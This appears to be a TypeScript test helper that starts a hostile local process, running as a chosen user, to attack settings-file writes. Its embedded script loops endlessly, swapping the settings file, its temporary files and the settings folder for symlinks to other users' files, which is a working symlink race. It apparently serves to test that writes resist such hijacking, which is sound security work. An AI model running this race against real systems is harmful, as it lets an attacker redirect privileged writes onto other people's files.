import { spawn, type ChildProcess } from 'node:child_process';

/**
 * Runs as an operator: puts links to other people's files wherever the settings could be written, in the place of the file,
 * of its temporary files, and of the whole folder, as fast as it can.
 */
const SCRIPT = `
const fs = require('node:fs');
const path = require('node:path');
const [homes, name, ...victims] = process.argv.slice(1);
const attempt = (act) => { try { act(); } catch {} };
const link = (target, place) => attempt(() => {
  const own = place + '.link';
  fs.rmSync(own, { force: true });
  fs.symlinkSync(target, own);
  fs.renameSync(own, place);
});
process.stdout.write('ready');
for (let turn = 0; ; turn += 1) {
  const victim = victims[turn % victims.length];
  const newest = fs.readdirSync(homes).sort().at(-1);
  if (newest === undefined) continue;
  const folder = path.join(homes, newest, 'settings');
  const file = path.join(folder, name);
  link(victim, file);
  attempt(() => {
    for (const entry of fs.readdirSync(folder)) {
      const place = path.join(folder, entry);
      if (entry.endsWith('.tmp') || entry.includes('.tmp-')) { attempt(() => fs.unlinkSync(place)); attempt(() => fs.symlinkSync(victim, place)); }
    }
  });
  if (turn % 3 === 0) attempt(() => {
    fs.renameSync(folder, folder + '.away');
    link(path.dirname(victim), folder);
    attempt(() => fs.unlinkSync(folder));
    fs.renameSync(folder + '.away', folder);
  });
}`;

/** Starts the attacker as an account, against `settings/NAME` in the newest of the homes; it goes on until it is killed. */
export const startLinkAttacker = async (
  { account, group }: { account: number; group: number },
  { homes, name }: { homes: string; name: string },
  victims: readonly string[],
): Promise<ChildProcess> => {
  const child = spawn(process.execPath, ['-e', SCRIPT, homes, name, ...victims], {
    ...{ uid: account, gid: group, cwd: '/', env: {}, stdio: ['ignore', 'pipe', 'inherit'] },
  });
  await new Promise((resolve) => child.stdout.once('data', resolve));
  return child;
};
